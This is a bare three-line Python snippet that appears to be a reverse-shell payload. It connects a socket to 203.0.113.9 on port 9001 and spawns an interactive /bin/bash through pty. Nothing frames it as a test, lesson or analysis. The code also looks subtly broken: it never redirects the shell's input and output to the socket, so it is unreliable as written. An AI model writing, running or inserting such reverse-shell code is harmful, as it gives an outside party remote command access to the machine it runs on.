import pty, socket
c = socket.create_connection(("203.0.113.9", 9001))
pty.spawn("/bin/bash")
